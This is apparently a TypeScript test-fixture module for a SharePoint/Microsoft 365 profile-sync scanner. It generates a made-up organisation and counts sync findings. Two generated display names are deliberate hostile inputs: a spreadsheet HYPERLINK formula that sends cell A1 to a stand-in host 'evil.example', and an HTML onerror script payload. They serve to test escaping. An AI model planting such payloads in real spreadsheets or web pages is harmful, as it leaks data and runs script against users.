import type { FindingCode } from '../../profile';
import type { CountKey, ScanCounts, ScannedPerson } from '../types';

// Findings that need a sync (warnings); the others are notes and leave a person in sync.
const WARNINGS: readonly FindingCode[] = ['photo-missing-in-sharepoint', 'photo-missing-in-microsoft365', 'photo-differs', 'photo-damaged-in-microsoft365', 'property-differs'];

const FIRST = ['Ingrid', 'Ola', 'Kari', 'Lars', 'Aisha', 'Mateo', 'Siri', 'Jonas', 'Mei', 'Øystein', 'Zoë', 'Priya'];
const LAST = ['Hansen', 'Johansen', 'Olsen', 'Larsen', 'Andersen', 'Pedersen', 'Nilsen', 'Kristiansen', 'Berg', 'Haugen'];

/** One scanned person, in sync unless findings are given. */
export function scannedPerson(overrides: Partial<ScannedPerson> & { id: string }): ScannedPerson {
  const findings = overrides.findings || [];
  return {
    displayName: `Person ${overrides.id}`,
    userPrincipalName: `${overrides.id}@contoso.example`,
    mail: `${overrides.id}@contoso.example`,
    guest: false,
    enabled: true,
    differingFields: [],
    inSync: !findings.some((code) => WARNINGS.indexOf(code) >= 0),
    ...overrides,
    findings
  };
}

/** The findings person `index` has in a generated organisation: a fixed pattern, so counts are known. */
function findingsAt(index: number): { findings: FindingCode[]; differingFields: string[] } {
  const findings: FindingCode[] = [];
  const differingFields: string[] = [];
  if (index % 7 === 3) findings.push('photo-missing-in-sharepoint');
  if (index % 13 === 5) findings.push('photo-missing-in-microsoft365');
  if (index % 19 === 7) findings.push('photo-unverified');
  if (index % 5 === 1) {
    findings.push('property-differs');
    differingFields.push('jobTitle');
    if (index % 10 === 1) differingFields.push('department');
  }
  if (index % 11 === 2) {
    findings.push('property-not-synced');
    differingFields.push('mobilePhone');
  }
  return { findings, differingFields };
}

/**
 * A made-up organisation of `size` people, the same every time. Person 4 has a name a spreadsheet
 * would run as a formula, person 9 has script in their name, and every 41st has no SharePoint profile.
 */
export function generatedPeople(size: number): ScannedPerson[] {
  const people: ScannedPerson[] = [];
  for (let index = 0; index < size; index += 1) {
    const id = `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`;
    const first = FIRST[index % FIRST.length];
    const last = LAST[Math.floor(index / FIRST.length) % LAST.length];
    const login = `${first}.${last}${index}`.toLowerCase().replace(/[^a-z0-9.]/g, 'x');
    let displayName = `${first} ${last} ${index}`;
    if (index === 4) displayName = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
    if (index === 9) displayName = '<img src=x onerror=alert(1)>';
    if (index % 41 === 40) {
      people.push(scannedPerson({ id, displayName, userPrincipalName: `${login}@contoso.example`, mail: `${login}@contoso.example`, unread: 'no-sharepoint-profile', inSync: false }));
      continue;
    }
    people.push(scannedPerson({ id, displayName, userPrincipalName: `${login}@contoso.example`, mail: `${login}@contoso.example`, ...findingsAt(index) }));
  }
  return people;
}

/** People per finding code and in sync, as the contract counts them: once per code, unread in neither. */
export function countsOf(people: readonly ScannedPerson[]): ScanCounts {
  const counts: ScanCounts = {};
  const add = (key: CountKey): void => { counts[key] = (counts[key] || 0) + 1; };
  people.forEach((person) => {
    if (person.unread) return;
    person.findings.forEach(add);
    if (person.inSync) add('in-sync');
  });
  return counts;
}
